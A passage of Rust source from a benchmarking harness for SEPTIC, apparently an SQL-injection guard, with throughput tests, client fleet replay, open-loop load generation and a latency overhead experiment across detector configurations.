        let report = run_throughput(&tiny_plan());
        assert_eq!(report.rows.len(), 8); // 4 configs x 2 thread counts
        for config in DetectionConfig::all() {
            for threads in [1, 2] {
                let row = report.row(config.label(), threads).expect("cell");
                assert_eq!(row.queries, 8 * threads as u64);
                assert!(row.qps > 0.0);
                assert!(row.p50_us > 0, "observed latency must be sampled");
                assert!(row.p50_us <= row.p95_us && row.p95_us <= row.p99_us);
            }
        }
    }

    #[test]
    fn sweep_reports_per_stage_percentiles() {
        let report = run_throughput(&tiny_plan());
        for config in DetectionConfig::all() {
            let inspect = report
                .stages
                .iter()
                .find(|s| s.config == config.label() && s.stage == "inspect")
                .expect("inspect stage row per config");
            // Training (4 shapes) + warm-up + measurement all pass through
            // the guard: 4 + (2+8)·1 + (2+8)·2 = 34 inspections.
            assert_eq!(inspect.count, 34);
            assert!(inspect.p50_us <= inspect.p95_us && inspect.p95_us <= inspect.p99_us);
        }
        for stage in ["id_gen", "store_get", "sqli_detect", "stored_scan"] {
            assert!(
                report
                    .stages
                    .iter()
                    .any(|s| s.config == "YY" && s.stage == stage),
                "missing YY stage row: {stage}"
            );
        }
    }

    #[test]
    fn latency_histogram_reports_simulated_sleep_not_wall_clock() {
        // Time-based blind injection probes (SLEEP/BENCHMARK) must show up
        // in the latency report even though the engine only *simulates*
        // the delay. Recording `ExecResult::elapsed` here would report
        // tens of microseconds; `observed_latency()` includes the delay.
        let server = Server::new();
        let conn = server.connect();
        let latency = Histogram::new();
        let wall = Instant::now();
        let res = conn.execute("SELECT SLEEP(2)").expect("sleep query");
        latency.record(res.observed_latency());
        assert!(
            wall.elapsed() < Duration::from_secs(1),
            "SLEEP is simulated — the driver must not actually block"
        );
        assert!(res.elapsed < Duration::from_secs(1));
        assert!(res.observed_latency() >= Duration::from_secs(2));
        let snap = latency.snapshot("observed_latency");
        assert!(
            snap.percentile_us(50.0) >= 2_000_000,
            "p50 {}us must include the 2s simulated delay",
            snap.percentile_us(50.0)
        );
    }

    #[test]
    fn sweep_is_deterministic_modulo_wall_clock() {
        // Everything except the timing fields is a pure function of the
        // plan: same cells in the same order with the same exact counts.
        let plan = tiny_plan();
        let a = run_throughput(&plan);
        let b = run_throughput(&plan);
        let shape = |r: &ThroughputReport| {
            r.rows
                .iter()
                .map(|row| (row.config.clone(), row.threads, row.queries))
                .collect::<Vec<_>>()
        };
        assert_eq!(shape(&a), shape(&b));
        assert_eq!(a.seed, b.seed);
        assert_eq!(a.queries_per_thread, b.queries_per_thread);
    }

    #[test]
    fn workload_stream_is_a_pure_function_of_the_plan() {
        for (t, i) in [(0usize, 0usize), (1, 3), (7, 99)] {
            assert_eq!(session_datum(42, t, i), session_datum(42, t, i));
        }
        // Different sessions and seeds send different data.
        assert_ne!(session_datum(42, 0, 0), session_datum(42, 1, 0));
        assert_ne!(session_datum(42, 0, 0), session_datum(43, 0, 0));
    }

    #[test]
    fn tcp_sweep_serves_the_same_workload_over_the_wire() {
        // The over-the-wire sweep completes the exact same per-cell query
        // counts as the in-process one: benign queries against trained
        // shapes must pass PREVENTION across the TCP front end too.
        let plan = tiny_plan();
        let rows = run_throughput_tcp(&plan);
        assert_eq!(rows.len(), 8); // 4 configs x 2 client counts
        for config in DetectionConfig::all() {
            for threads in [1usize, 2] {
                let row = rows
                    .iter()
                    .find(|r| r.config == config.label() && r.threads == threads)
                    .expect("tcp cell");
                assert_eq!(row.queries, 8 * threads as u64);
                assert!(row.qps > 0.0);
                assert!(row.p50_us <= row.p95_us && row.p95_us <= row.p99_us);
            }
        }
    }

    #[test]
    fn engine_comparison_measures_both_engines() {
        let rows = run_engine_comparison(&tiny_plan());
        assert_eq!(rows.len(), 4); // 2 engines x 2 thread counts
        for engine in ["ast", "vm"] {
            for threads in [1usize, 2] {
                let cell = rows
                    .iter()
                    .find(|r| r.engine == engine && r.row.threads == threads)
                    .unwrap_or_else(|| panic!("missing {engine} cell at {threads} threads"));
                assert_eq!(cell.row.config, "YY");
                assert_eq!(cell.row.queries, 8 * threads as u64);
                assert!(cell.row.qps > 0.0);
            }
        }
    }

    #[test]
    fn join_workload_completes_every_cell_under_prevention() {
        // The JOIN sweep is the same closed-loop shape as the main sweep,
        // but every query is a trained two-table join: it must complete
        // the exact per-cell counts (no benign join blocked) at YY.
        let plan = tiny_plan();
        let rows = run_join_workload(&plan);
        assert_eq!(rows.len(), 2); // one YY row per thread count
        for threads in [1usize, 2] {
            let row = rows
                .iter()
                .find(|r| r.threads == threads)
                .expect("join cell");
            assert_eq!(row.config, "YY");
            assert_eq!(row.queries, 8 * threads as u64);
            assert!(row.qps > 0.0);
            assert!(row.p50_us <= row.p95_us && row.p95_us <= row.p99_us);
        }
    }

    #[test]
    fn join_workload_rows_actually_join() {
        // Sanity-check the query family: the trained shape's datum-0 form
        // returns the seeded joined row, so the sweep measures real join
        // work rather than empty scans.
        let plan = tiny_plan();
        let (server, _septic) = build_join_deployment(&plan);
        let out = server
            .connect()
            .query(&join_shape_query(0, 0))
            .expect("joined query");
        assert_eq!(
            out.columns,
            vec!["t.note".to_string(), "o.region".to_string()]
        );
        let v0 = septic_dbms::Value::from("v0");
        assert_eq!(out.rows, vec![vec![v0.clone(), v0]]);
    }

    #[test]
    fn report_json_round_trips() {
        let report = run_throughput(&tiny_plan());
        let json = report.to_json().expect("serialize");
        let restored: ThroughputReport = serde_json::from_str(&json).expect("parse");
        assert_eq!(restored, report);
    }

    #[test]
    fn speedup_compares_thread_counts() {
        let mut report = run_throughput(&ThroughputPlan {
            threads: vec![1],
            ..tiny_plan()
        });
        // Synthesized rows make the ratio deterministic.
        report.rows = vec![
            ThroughputRow {
                config: "YY".into(),
                threads: 1,
                queries: 100,
                elapsed_us: 1_000_000,
                qps: 100.0,
                mean_us: 120,
                p50_us: 128,
                p95_us: 256,
                p99_us: 512,
            },
            ThroughputRow {
                config: "YY".into(),
                threads: 8,
                queries: 800,
                elapsed_us: 1_000_000,
                qps: 800.0,
                mean_us: 120,
                p50_us: 128,
                p95_us: 256,
                p99_us: 512,
            },
        ];
        assert_eq!(report.speedup("YY", 8, 1), Some(8.0));
        assert_eq!(report.speedup("ZZ", 8, 1), None);
    }
}
