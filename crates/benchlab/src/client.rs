//! Virtual clients: machines × browsers replaying workloads in a loop,
//! mirroring the paper's testbed (up to 4 client machines running up to 5
//! browsers each).

use std::time::{Duration, Instant};

use septic_webapp::deployment::Deployment;

use crate::workload::Workload;

/// One browser's replay result.
#[derive(Debug, Clone, Default)]
pub struct BrowserRun {
    /// Latency of every request sent, in order.
    pub latencies: Vec<Duration>,
    /// Responses that were not 2xx/3xx.
    pub failures: usize,
}

/// Replays the workload `loops` times against the deployment, measuring
/// per-request wall-clock latency ("each browser executed the workload in
/// a loop many times, sending the requests one by one").
#[must_use]
pub fn replay(deployment: &Deployment, workload: &Workload, loops: usize) -> BrowserRun {
    let mut run = BrowserRun::default();
    run.latencies.reserve(workload.len() * loops);
    for _ in 0..loops {
        for request in &workload.requests {
            let started = Instant::now();
            let resp = deployment.request(request);
            run.latencies.push(started.elapsed());
            if !resp.response.is_success() {
                run.failures += 1;
            }
        }
    }
    run
}

/// Client fleet shape: `machines × browsers_per_machine` concurrent
/// browsers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Fleet {
    pub machines: usize,
    pub browsers_per_machine: usize,
}

impl Fleet {
    /// Total concurrent browsers.
    #[must_use]
    pub fn browsers(&self) -> usize {
        self.machines * self.browsers_per_machine
    }

    /// The paper's final configuration: 20 browsers on 4 machines.
    #[must_use]
    pub fn paper_max() -> Self {
        Fleet {
            machines: 4,
            browsers_per_machine: 5,
        }
    }
}

/// Runs the whole fleet concurrently against one deployment and merges the
/// latency samples.
#[must_use]
pub fn run_fleet(
    deployment: &Deployment,
    workload: &Workload,
    fleet: Fleet,
    loops: usize,
) -> BrowserRun {
    let browsers = fleet.browsers().max(1);
    if browsers == 1 {
        return replay(deployment, workload, loops);
    }
    let mut merged = BrowserRun::default();
    std::thread::scope(|scope| {
        let handles: Vec<_> = (0..browsers)
            .map(|_| scope.spawn(|| replay(deployment, workload, loops)))
            .collect();
        for handle in handles {
            let run = handle.join().expect("browser thread panicked");
            merged.latencies.extend(run.latencies);
            merged.failures += run.failures;
        }
    });
    merged
}

#[cfg(test)]
mod tests {
    use super::*;
    use septic_webapp::{PhpAddressBook, ZeroCms};
    use std::sync::Arc;

    #[test]
    fn replay_measures_every_request() {
        let d = Deployment::new(Arc::new(PhpAddressBook::new()), None, None).unwrap();
        let w = Workload::record_from_app(&PhpAddressBook::new());
        let run = replay(&d, &w, 3);
        assert_eq!(run.latencies.len(), 36);
        assert_eq!(run.failures, 0);
    }

    #[test]
    fn fleet_shape() {
        let f = Fleet::paper_max();
        assert_eq!(f.browsers(), 20);
        assert_eq!(
            Fleet {
                machines: 2,
                browsers_per_machine: 3
            }
            .browsers(),
            6
        );
    }

    #[test]
    fn concurrent_fleet_merges_samples() {
        let d = Deployment::new(Arc::new(ZeroCms::new()), None, None).unwrap();
        let w = Workload::record_from_app(&ZeroCms::new());
        let fleet = Fleet {
            machines: 2,
            browsers_per_machine: 2,
        };
        let run = run_fleet(&d, &w, fleet, 2);
        assert_eq!(run.latencies.len(), 26 * 2 * 4);
        assert_eq!(run.failures, 0);
    }
}
