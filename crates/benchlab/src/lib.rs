//! # septic-benchlab
//!
//! BenchLab-style experiment harness: workload record/replay
//! ([`workload`]), virtual client fleets ([`client`]), latency statistics
//! ([`stats`]) and the Figure 5 overhead experiment driver
//! ([`experiment`]).
//!
//! The paper's testbed (six Quinta machines, four of them clients running
//! 1–5 Firefox browsers each) maps to concurrent browser threads replaying
//! the recorded application workloads against a shared deployment.

pub mod client;
pub mod experiment;
pub mod openloop;
pub mod recovery;
pub mod stats;
pub mod throughput;
pub mod workload;

pub use client::{replay, run_fleet, BrowserRun, Fleet};
pub use experiment::{
    measure, overhead_sweep, ExperimentPlan, GuardSetup, Measurement, OverheadRow,
};
pub use openloop::{run_idle_memory, run_open_loop, IdleConnRow, OpenLoopPlan, OpenLoopRow};
pub use recovery::{run_recovery_bench, RecoveryPlan, RecoveryRow};
pub use stats::LatencyStats;
pub use throughput::{
    run_engine_comparison, run_join_workload, run_throughput, run_throughput_tcp,
    run_throughput_tcp_front_end, EngineRow, StageLatencyRow, ThroughputPlan, ThroughputReport,
    ThroughputRow,
};
pub use workload::Workload;
