//! Open-loop load generation with coordinated-omission-aware latency.
//!
//! The closed-loop sweeps in [`crate::throughput`] have each client wait
//! for a response before sending again, so a slow server *slows the
//! generator down* — the worse the server does, the gentler the workload
//! gets, and tail latency under load is systematically under-reported
//! (the coordinated-omission problem). Production traffic does not
//! behave that way: arrivals come on the world's schedule, not the
//! server's.
//!
//! This driver fixes the arrival schedule **before** the run: request
//! `i` of an offered rate `R` is due at `start + i/R`, assigned
//! round-robin across a fixed set of connections. A sender never sleeps
//! past its next due time, never skips a scheduled request, and — the
//! part that matters — records each request's latency **from its
//! scheduled time**, not from when the sender finally got around to
//! writing it. A server that stalls therefore accrues the stall into
//! every latency sample scheduled during it, exactly as a waiting user
//! would experience.
//!
//! One structural honesty note: each connection issues its own requests
//! sequentially (the framed protocol answers in order per connection),
//! so a stalled connection cannot have unbounded requests in flight the
//! way a true per-request-connection generator would. The scheduled-time
//! accounting still charges the queueing delay to the samples; the
//! `max_lag_us` column reports how far behind schedule the senders fell
//! so saturated cells are legible as saturated.

use std::sync::{Arc, Barrier};
use std::thread;
use std::time::{Duration, Instant};

use septic::DetectionConfig;
use septic_net::{FrontEndKind, NetClient, NetServerConfig};
use septic_telemetry::Histogram;
use serde::{Deserialize, Serialize};

use crate::throughput::{build_deployment, session_datum, shape_query, ThroughputPlan};

/// Shape of an open-loop run.
#[derive(Debug, Clone)]
pub struct OpenLoopPlan {
    /// Offered arrival rates to sweep, queries/second.
    pub rates: Vec<u64>,
    /// Measurement window per rate.
    pub duration: Duration,
    /// Connections the schedule is split across, round-robin.
    pub connections: usize,
    /// Unmeasured closed-loop queries per connection before the
    /// schedule starts (cache/lock warm-up).
    pub warmup_queries: usize,
    /// Distinct trained query shapes rotated through.
    pub distinct_shapes: usize,
    /// Workload seed; the full schedule and query byte stream is a pure
    /// function of the plan.
    pub seed: u64,
}

impl Default for OpenLoopPlan {
    fn default() -> Self {
        OpenLoopPlan {
            rates: vec![1000, 2000, 4000, 8000],
            duration: Duration::from_secs(3),
            connections: 8,
            warmup_queries: 20,
            distinct_shapes: 32,
            seed: 0x5EED_7090,
        }
    }
}

impl OpenLoopPlan {
    /// A sub-second CI shape: two rates, short window, small fleet.
    #[must_use]
    pub fn smoke() -> Self {
        OpenLoopPlan {
            rates: vec![300, 900],
            duration: Duration::from_millis(600),
            connections: 4,
            warmup_queries: 5,
            ..OpenLoopPlan::default()
        }
    }
}

/// One open-loop cell: a front end at an offered rate.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct OpenLoopRow {
    /// Front end label (`blocking` / `event-loop`).
    pub front_end: String,
    /// Offered arrival rate, queries/second.
    pub offered_qps: u64,
    /// Connections the schedule was split across.
    pub connections: u64,
    /// Wall-clock length of the cell, microseconds (includes overrun
    /// past the nominal window when the server fell behind).
    pub duration_us: u64,
    /// Requests on the fixed schedule.
    pub scheduled: u64,
    /// Requests that completed successfully.
    pub completed: u64,
    /// Requests that failed (transport error, shed, blocked).
    pub errors: u64,
    /// Completed requests per second of actual wall time.
    pub achieved_qps: f64,
    /// Mean latency from *scheduled* time, microseconds.
    pub mean_us: u64,
    /// Median scheduled-time latency, µs.
    pub p50_us: u64,
    /// 95th-percentile scheduled-time latency, µs.
    pub p95_us: u64,
    /// 99th-percentile scheduled-time latency, µs.
    pub p99_us: u64,
    /// Worst sender lag behind its schedule at send time, µs — how far
    /// the generator itself fell behind (saturation tell-tale).
    pub max_lag_us: u64,
}

/// Memory cost of parked connections: RSS delta across holding `n` idle
/// sockets open against a front end.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct IdleConnRow {
    /// Front end label.
    pub front_end: String,
    /// Idle connections held.
    pub connections: u64,
    /// Server threads while holding them (fixed for the event loop —
    /// that is the point).
    pub threads: u64,
    /// `VmRSS` before connecting, kB.
    pub rss_before_kb: u64,
    /// `VmRSS` with all connections parked, kB.
    pub rss_after_kb: u64,
    /// RSS growth, kB. Client sockets live in the same process, so this
    /// is an *upper* bound on the server-side cost.
    pub rss_delta_kb: i64,
    /// Growth per connection, kB.
    pub kb_per_connection: f64,
}

/// The [`ThroughputPlan`] a deployment for open-loop cells is trained
/// under (shapes/seed forwarded; closed-loop knobs defaulted).
fn training_plan(plan: &OpenLoopPlan) -> ThroughputPlan {
    ThroughputPlan {
        distinct_shapes: plan.distinct_shapes,
        seed: plan.seed,
        ..ThroughputPlan::default()
    }
}

fn front_end_config(plan: &OpenLoopPlan) -> NetServerConfig {
    NetServerConfig {
        workers: plan.connections.max(1),
        accept_queue: plan.connections.max(1),
        // Long timeout: an open-loop sender may legitimately go quiet on
        // one connection while it catches up on others.
        read_timeout: Duration::from_secs(60),
        ..NetServerConfig::default()
    }
}

/// Measures one (front end, offered rate) cell against `addr`.
fn measure_rate(
    addr: std::net::SocketAddr,
    kind: FrontEndKind,
    rate: u64,
    plan: &OpenLoopPlan,
) -> OpenLoopRow {
    let conns = plan.connections.max(1);
    let shapes = plan.distinct_shapes.max(1);
    let scheduled_total = ((rate as f64) * plan.duration.as_secs_f64()).round() as u64;
    let latency = Arc::new(Histogram::new());
    // All senders warm up, then cross the barrier together: the schedule
    // origin is the same instant for every connection.
    let barrier = Arc::new(Barrier::new(conns));

    let handles: Vec<_> = (0..conns)
        .map(|c| {
            let plan = plan.clone();
            let latency = Arc::clone(&latency);
            let barrier = Arc::clone(&barrier);
            thread::spawn(move || {
                let mut client = NetClient::connect(addr).expect("open-loop connect");
                for i in 0..plan.warmup_queries {
                    let q = shape_query((c + i) % shapes, session_datum(plan.seed, c, i));
                    client.query(&q).expect("warmup query");
                }
                barrier.wait();
                let start = Instant::now();
                let mut completed: u64 = 0;
                let mut errors: u64 = 0;
                let mut max_lag = Duration::ZERO;
                // Connection c owns schedule indices c, c+conns, c+2·conns…
                let mut k: u64 = 0;
                loop {
                    let i = k * conns as u64 + c as u64;
                    if i >= scheduled_total {
                        break;
                    }
                    let due = start + Duration::from_secs_f64(i as f64 / rate as f64);
                    let now = Instant::now();
                    if due > now {
                        thread::sleep(due - now);
                    } else {
                        // Behind schedule: send immediately, never skip.
                        // The sample below still measures from `due`, so
                        // the backlog is charged to latency, not hidden.
                        max_lag = max_lag.max(now - due);
                    }
                    let q = shape_query(
                        (c + k as usize) % shapes,
                        session_datum(plan.seed, c, k as usize),
                    );
                    match client.query(&q) {
                        Ok(_) => {
                            latency.record(Instant::now().saturating_duration_since(due));
                            completed += 1;
                        }
                        Err(_) => errors += 1,
                    }
                    k += 1;
                }
                (completed, errors, max_lag, start.elapsed())
            })
        })
        .collect();

    let mut completed = 0u64;
    let mut errors = 0u64;
    let mut max_lag = Duration::ZERO;
    let mut elapsed = Duration::ZERO;
    for h in handles {
        let (c, e, lag, dur) = h.join().expect("open-loop sender");
        completed += c;
        errors += e;
        max_lag = max_lag.max(lag);
        elapsed = elapsed.max(dur);
    }
    let observed = latency.snapshot("open_loop_latency");
    OpenLoopRow {
        front_end: kind.label().to_string(),
        offered_qps: rate,
        connections: conns as u64,
        duration_us: u64::try_from(elapsed.as_micros()).unwrap_or(u64::MAX),
        scheduled: scheduled_total,
        completed,
        errors,
        achieved_qps: completed as f64 / elapsed.as_secs_f64().max(f64::EPSILON),
        mean_us: observed.mean_us() as u64,
        p50_us: observed.percentile_us(50.0),
        p95_us: observed.percentile_us(95.0),
        p99_us: observed.percentile_us(99.0),
        max_lag_us: u64::try_from(max_lag.as_micros()).unwrap_or(u64::MAX),
    }
}

/// Runs the open-loop sweep: each requested front end at each offered
/// rate, one fresh trained YY deployment per (front end, rate) cell so
/// no cell inherits another's kernel socket or histogram state.
#[must_use]
pub fn run_open_loop(plan: &OpenLoopPlan, kinds: &[FrontEndKind]) -> Vec<OpenLoopRow> {
    let tplan = training_plan(plan);
    let mut rows = Vec::with_capacity(kinds.len() * plan.rates.len());
    for &kind in kinds {
        for &rate in &plan.rates {
            let (server, _septic) = build_deployment(DetectionConfig::YY, &tplan);
            let handle =
                septic_net::serve_front_end(kind, server, ("127.0.0.1", 0), front_end_config(plan))
                    .expect("bind front end");
            rows.push(measure_rate(handle.addr(), kind, rate, plan));
            handle.shutdown();
        }
    }
    rows
}

/// `VmRSS` of this process, kB, from `/proc/self/status`.
fn vm_rss_kb() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|l| l.starts_with("VmRSS:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

/// Holds `connections` idle sockets open against the event-loop front
/// end and reports the RSS delta — the "idle connection costs bytes,
/// not a thread" claim as a number. Returns `None` where `/proc` is
/// unavailable or the event loop is unsupported.
#[must_use]
pub fn run_idle_memory(connections: usize) -> Option<IdleConnRow> {
    let tplan = ThroughputPlan {
        distinct_shapes: 1,
        ..ThroughputPlan::default()
    };
    let (server, _septic) = build_deployment(DetectionConfig::YY, &tplan);
    let handle = septic_net::serve_event_loop(
        server,
        ("127.0.0.1", 0),
        NetServerConfig {
            reactors: 2,
            workers: 2,
            max_connections: connections + 16,
            // Idle is the test: nothing may reap the parked sockets.
            read_timeout: Duration::from_secs(600),
            ..NetServerConfig::default()
        },
    )
    .ok()?;
    let addr = handle.addr();
    let threads = handle.thread_count() as u64;

    let rss_before_kb = vm_rss_kb()?;
    let mut parked = Vec::with_capacity(connections);
    for i in 0..connections {
        parked.push(std::net::TcpStream::connect(addr).ok()?);
        // Pace the connect burst against the accept backlog: let the
        // reactors register a chunk before offering the next.
        if i % 128 == 127 {
            wait_for_active(&handle, (i + 1 - 64) as u64);
        }
    }
    wait_for_active(&handle, connections as u64);
    let rss_after_kb = vm_rss_kb()?;

    drop(parked);
    let handle_threads = handle.thread_count() as u64;
    handle.shutdown();
    debug_assert_eq!(threads, handle_threads);

    let rss_delta_kb = rss_after_kb as i64 - rss_before_kb as i64;
    Some(IdleConnRow {
        front_end: FrontEndKind::EventLoop.label().to_string(),
        connections: connections as u64,
        threads,
        rss_before_kb,
        rss_after_kb,
        rss_delta_kb,
        kb_per_connection: rss_delta_kb as f64 / connections.max(1) as f64,
    })
}

fn wait_for_active(handle: &septic_net::EventLoopHandle, at_least: u64) {
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.active_connections() < at_least && Instant::now() < deadline {
        thread::sleep(Duration::from_millis(5));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiny_plan() -> OpenLoopPlan {
        OpenLoopPlan {
            rates: vec![200],
            duration: Duration::from_millis(300),
            connections: 2,
            warmup_queries: 2,
            distinct_shapes: 4,
            seed: 42,
        }
    }

    #[test]
    fn open_loop_cells_complete_their_schedule_when_underloaded() {
        // 200 q/s for 300 ms is ~60 requests — far under capacity, so
        // every scheduled request completes and nothing errors.
        let rows = run_open_loop(&tiny_plan(), &FrontEndKind::all());
        assert_eq!(rows.len(), 2);
        for row in &rows {
            assert_eq!(row.scheduled, 60, "{}", row.front_end);
            assert_eq!(row.completed, 60, "{}", row.front_end);
            assert_eq!(row.errors, 0, "{}", row.front_end);
            assert!(row.achieved_qps > 0.0);
            assert!(row.p50_us <= row.p95_us && row.p95_us <= row.p99_us);
        }
        let labels: Vec<&str> = rows.iter().map(|r| r.front_end.as_str()).collect();
        assert_eq!(labels, vec!["blocking", "event-loop"]);
    }

    #[test]
    fn latency_is_measured_from_the_schedule_not_the_send() {
        // A sender that falls behind must charge the backlog to the
        // samples. Simulate with the real arithmetic: a request due at
        // t=0 sent at t=5ms with a 1ms service time reads ≥6ms from the
        // schedule. (Unit-level check of the accounting invariant.)
        let start = Instant::now();
        let due = start; // already behind by the time we "send"
        thread::sleep(Duration::from_millis(5));
        let measured = Instant::now().saturating_duration_since(due);
        assert!(
            measured >= Duration::from_millis(5),
            "queueing delay must be part of the sample"
        );
    }

    #[cfg(target_os = "linux")]
    #[test]
    fn idle_memory_row_reports_parked_connections() {
        let row = run_idle_memory(64).expect("idle row on linux");
        assert_eq!(row.connections, 64);
        assert_eq!(row.front_end, "event-loop");
        assert_eq!(row.threads, 4, "2 reactors + 2 workers, fixed");
        assert!(row.rss_after_kb >= row.rss_before_kb.saturating_sub(1024));
    }
}
