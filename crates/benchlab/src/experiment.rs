//! The Figure 5 experiment driver: measures the average latency overhead
//! of each SEPTIC detector configuration (NN/YN/NY/YY) against vanilla
//! MySQL, per application workload.
//!
//! The paper measured millisecond-scale request latencies over a real
//! network, where a 0.5–2.2% overhead is readily visible. Our in-memory
//! substrate serves requests in tens of microseconds, so system noise
//! (scheduling, frequency scaling) dwarfs the effect unless measurements
//! are carefully arranged. The driver therefore:
//!
//! * builds **all** configurations up front and **interleaves** their
//!   measurement rounds (round-robin), so slow drift affects every
//!   configuration equally;
//! * aggregates with a **trimmed mean** over per-round workload times,
//!   discarding scheduler outliers at both tails.

use std::sync::Arc;
use std::time::{Duration, Instant};

use septic::{DetectionConfig, Mode, Septic};
use septic_webapp::deployment::Deployment;
use septic_webapp::WebApp;

use crate::client::{run_fleet, Fleet};
use crate::stats::LatencyStats;
use crate::workload::Workload;

/// Experiment shape.
#[derive(Debug, Clone, Copy)]
pub struct ExperimentPlan {
    pub fleet: Fleet,
    /// Warm-up rounds (excluded from measurement).
    pub warmup_loops: usize,
    /// Measured rounds (one workload replay per browser each).
    pub loops: usize,
    /// Simulated web/network-tier latency added to every request when
    /// computing client-observed latency. The paper's clients observed
    /// millisecond-scale latencies (LAN + Apache + PHP/Zend); our substrate
    /// serves in microseconds, so the relative overhead is only comparable
    /// after restoring the tiers we do not simulate. See EXPERIMENTS.md.
    pub service_pad: Duration,
}

impl Default for ExperimentPlan {
    fn default() -> Self {
        ExperimentPlan {
            fleet: Fleet::paper_max(),
            warmup_loops: 5,
            loops: 60,
            service_pad: Duration::from_millis(1),
        }
    }
}

/// Which guard (if any) a measurement runs with.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum GuardSetup {
    /// Vanilla MySQL: no guard installed.
    Vanilla,
    /// SEPTIC installed with the given detector switches, trained, in
    /// prevention mode.
    Septic(DetectionConfig),
}

impl GuardSetup {
    /// Label for result tables (`vanilla`, `NN`, `YN`, `NY`, `YY`).
    #[must_use]
    pub fn label(&self) -> &'static str {
        match self {
            GuardSetup::Vanilla => "vanilla",
            GuardSetup::Septic(c) => c.label(),
        }
    }
}

/// One measured configuration.
#[derive(Debug, Clone)]
pub struct Measurement {
    pub app: String,
    pub setup_label: &'static str,
    pub stats: LatencyStats,
    pub failures: usize,
}

fn build_deployment(app: Arc<dyn WebApp>, setup: GuardSetup, workload: &Workload) -> Deployment {
    let septic = match setup {
        GuardSetup::Vanilla => None,
        GuardSetup::Septic(config) => Some(Arc::new(Septic::with_config(config))),
    };
    let deployment = Deployment::new(app, None, septic.clone()).expect("deployment install");
    if let Some(septic) = &septic {
        septic.set_mode(Mode::Training);
        let _ = run_fleet(
            &deployment,
            workload,
            Fleet {
                machines: 1,
                browsers_per_machine: 1,
            },
            2,
        );
        septic.set_mode(Mode::PREVENTION);
    }
    deployment
}

/// Measures one configuration in isolation (used by the client-scaling
/// experiment; for overhead comparisons prefer [`overhead_sweep`], which
/// interleaves).
#[must_use]
pub fn measure(app: Arc<dyn WebApp>, setup: GuardSetup, plan: ExperimentPlan) -> Measurement {
    let workload = Workload::record_from_app(app.as_ref());
    let deployment = build_deployment(app, setup, &workload);
    if plan.warmup_loops > 0 {
        let _ = run_fleet(&deployment, &workload, plan.fleet, plan.warmup_loops);
    }
    let run = run_fleet(&deployment, &workload, plan.fleet, plan.loops);
    Measurement {
        app: workload.name,
        setup_label: setup.label(),
        stats: LatencyStats::from_samples(&run.latencies),
        failures: run.failures,
    }
}

/// A Figure 5 row: one application, overhead (%) per SEPTIC configuration
/// relative to the vanilla baseline.
#[derive(Debug, Clone)]
pub struct OverheadRow {
    pub app: String,
    /// `(label, overhead_percent)` for NN, YN, NY, YY in order.
    pub overheads: Vec<(&'static str, f64)>,
    /// Baseline trimmed-mean round time, for context.
    pub baseline_mean: Duration,
}

/// Trimmed mean over round durations (drops the top and bottom 20%).
///
/// # Panics
///
/// Panics on an empty sample set — callers must measure at least one round.
fn trimmed_mean(samples: &mut [Duration]) -> Duration {
    assert!(
        !samples.is_empty(),
        "no measurement rounds (plan.loops must be >= 1)"
    );
    samples.sort_unstable();
    let n = samples.len();
    let trim = n / 5;
    let kept = &samples[trim..n - trim];
    if kept.is_empty() {
        return samples[n / 2];
    }
    kept.iter().sum::<Duration>() / kept.len() as u32
}

/// Runs the full Figure 5 sweep for one application with interleaved
/// rounds: vanilla, NN, YN, NY, YY measured back-to-back within each
/// round so environmental drift cancels in the relative overheads.
#[must_use]
pub fn overhead_sweep(app: Arc<dyn WebApp>, plan: ExperimentPlan) -> OverheadRow {
    let workload = Workload::record_from_app(app.as_ref());
    let setups: Vec<GuardSetup> = std::iter::once(GuardSetup::Vanilla)
        .chain(DetectionConfig::all().into_iter().map(GuardSetup::Septic))
        .collect();
    let deployments: Vec<Deployment> = setups
        .iter()
        .map(|&setup| build_deployment(app.clone(), setup, &workload))
        .collect();

    // Warm-up: every deployment, same shape as measurement.
    for _ in 0..plan.warmup_loops {
        for deployment in &deployments {
            let _ = run_fleet(deployment, &workload, plan.fleet, 1);
        }
    }

    // Interleaved measurement: per round, one fleet replay per config.
    let rounds = plan.loops.max(1);
    let mut round_times: Vec<Vec<Duration>> = vec![Vec::with_capacity(rounds); setups.len()];
    for _ in 0..rounds {
        for (i, deployment) in deployments.iter().enumerate() {
            let started = Instant::now();
            let run = run_fleet(deployment, &workload, plan.fleet, 1);
            round_times[i].push(started.elapsed());
            assert_eq!(
                run.failures,
                0,
                "workload must stay clean under {}",
                setups[i].label()
            );
        }
    }

    // Per-request means: a round replays the workload once per browser.
    let requests_per_round = (workload.len() * plan.fleet.browsers()) as f64;
    let per_request: Vec<f64> = round_times
        .iter_mut()
        .map(|samples| trimmed_mean(samples).as_secs_f64() / requests_per_round)
        .collect();
    // Client-observed latency = simulated web/network tier + measured time.
    let pad = plan.service_pad.as_secs_f64();
    let baseline = per_request[0] + pad;
    let overheads = setups[1..]
        .iter()
        .zip(&per_request[1..])
        .map(|(setup, raw)| (setup.label(), (raw + pad - baseline) / baseline * 100.0))
        .collect();
    OverheadRow {
        app: workload.name,
        overheads,
        baseline_mean: Duration::from_secs_f64(baseline),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use septic_webapp::PhpAddressBook;

    fn quick_plan() -> ExperimentPlan {
        ExperimentPlan {
            fleet: Fleet {
                machines: 1,
                browsers_per_machine: 2,
            },
            warmup_loops: 1,
            loops: 4,
            service_pad: Duration::from_millis(1),
        }
    }

    #[test]
    fn measure_produces_clean_samples() {
        let m = measure(
            Arc::new(PhpAddressBook::new()),
            GuardSetup::Septic(DetectionConfig::YY),
            quick_plan(),
        );
        assert_eq!(m.failures, 0, "no false positives under SEPTIC");
        assert_eq!(m.stats.samples, 12 * 2 * 4);
        assert_eq!(m.setup_label, "YY");
    }

    #[test]
    fn sweep_covers_all_configs() {
        let row = overhead_sweep(Arc::new(PhpAddressBook::new()), quick_plan());
        let labels: Vec<&str> = row.overheads.iter().map(|(l, _)| *l).collect();
        assert_eq!(labels, vec!["NN", "YN", "NY", "YY"]);
        assert_eq!(row.app, "PHP Address Book");
        for (_, overhead) in &row.overheads {
            assert!(overhead.is_finite());
        }
    }

    #[test]
